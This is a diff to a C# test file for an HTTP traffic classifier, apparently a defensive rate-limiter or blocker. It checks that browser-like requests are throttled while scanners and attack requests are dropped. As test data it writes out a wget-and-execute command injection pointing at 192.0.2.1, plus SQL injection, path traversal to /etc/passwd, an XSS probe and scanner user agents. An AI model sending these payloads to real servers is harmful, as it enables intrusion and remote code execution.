@@ -11,7 +11,81 @@ public sealed class LedRequestTests
     private const string Person = "203.0.113.60";
     private const string Exploit = "/shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x&id=1'+union+select+1,2--";
 
+    // What a browser says over plain HTTP of a page that asks it for silence (Referrer-Policy: no-referrer).
+    private const string Silent = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\nAccept-Language: de,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n";
+
     private readonly Traffic _traffic = new();
+
+    [Theory]
+    [InlineData("GET", "Accept: image/avif,image/webp,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5\r\n")]
+    [InlineData("GET", "Accept: */*\r\n")]
+    [InlineData("GET", "Accept: text/css,*/*;q=0.1\r\n")]
+    [InlineData("GET", "Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\nUpgrade-Insecure-Requests: 1\r\nCookie: a=b\r\n")]
+    [InlineData("GET", "Accept: */*\r\nRange: bytes=0-\r\n")]
+    [InlineData("HEAD", "Accept: application/json\r\n")]
+    public void A_silent_page_of_another_site_limits_its_visitor_and_never_blocks_him(string method, string headers)
+    {
+        for (int i = 0; i < 400; i++)
+        {
+            // Exploits for some, and names of what the server does not have.
+            string target = i % 4 == 0 ? $"/shell?cd+/tmp;wget+http://192.0.2.1/{i}" : $"/missing/{i}.png";
+            _traffic.Wait(0.05).Request(Person, $"{method} {target} HTTP/1.1\r\nHost: www.example.org\r\n{Silent}{headers}\r\n");
+            _traffic.Answer(Person, 404);
+        }
+
+        Assert.NotEmpty(_traffic.Decisions);
+        Assert.All(_traffic.Decisions, d => Assert.Equal((Verdict.RateLimit, EvidenceClass.Spoofable), (d.Verdict, d.Evidence[0].Class)));
+    }
+
+    [Theory]
+    [InlineData("Accept: image/webp,*/*\r\nReferer: http://www.example.org/forum/17\r\n")]
+    [InlineData("Sec-Fetch-Site: same-origin\r\nSec-Fetch-Dest: image\r\n")]
+    public void Pictures_that_somebody_posted_on_this_site_limit_its_readers_at_most(string headers)
+    {
+        for (int i = 0; i < 400; i++)
+        {
+            _traffic.Wait(0.05).Request(Person, $"GET /missing/{i}.png HTTP/1.1\r\nHost: www.example.org\r\n{Silent}{headers}\r\n");
+            _traffic.Answer(Person, 404);
+        }
+
+        Assert.All(_traffic.Verdicts, v => Assert.Equal(Verdict.RateLimit, v));
+        Assert.NotEmpty(_traffic.Decisions);
+    }
+
+    [Theory]
+    [InlineData("User-Agent: Fuzz Faster U Fool v2.1.0-dev\r\nAccept-Encoding: gzip\r\n")]
+    [InlineData("User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\nConnection: close\r\n")]
+    [InlineData("User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)\r\nConnection: Keep-Alive\r\n")]
+    [InlineData("User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\nAccept: */*\r\nAccept-Encoding: *\r\nCache-Control: max-age=0\r\n")]
+    [InlineData("User-Agent: curl/8.5.0\r\nAccept: */*\r\nAccept-Language: de\r\n")]
+    [InlineData("")]
+    public void Tools_that_look_for_what_is_there_are_blocked(string headers)
+    {
+        for (int i = 0; i < 400; i++)
+        {
+            _traffic.Wait(0.05).Request(Person, $"GET /word{i} HTTP/1.1\r\nHost: www.example.org\r\n{headers}\r\n");
+            _traffic.Answer(Person, 404);
+        }
+
+        Assert.Contains(Verdict.Drop, _traffic.Verdicts);
+    }
+
+    [Theory]
+    [InlineData("GET", "/a/../../../etc/passwd")]
+    [InlineData("GET", "/static/%2e%2e/%2E./etc/passwd")]
+    [InlineData("GET", "/..\\..\\windows\\win.ini?php://input")]
+    [InlineData("GET", "/?q=<script>alert(1)</script>&f=/etc/passwd")]
+    [InlineData("POST", "/shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x")]
+    public void What_no_browser_sends_in_silence_is_its_senders_own_whatever_he_calls_himself(string method, string target)
+    {
+        for (int i = 0; i < 4; i++)
+        {
+            string separator = target.Contains('?', StringComparison.Ordinal) ? "&" : "?";
+            _traffic.Wait(0.5).Request(Person, $"{method} {target}{separator}n={i} HTTP/1.1\r\nHost: www.example.org\r\n{Silent}\r\n");
+        }
+
+        Assert.Contains(Verdict.Drop, _traffic.Verdicts);
+    }
 
     [Theory]
     [InlineData("Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: image\r\n")]
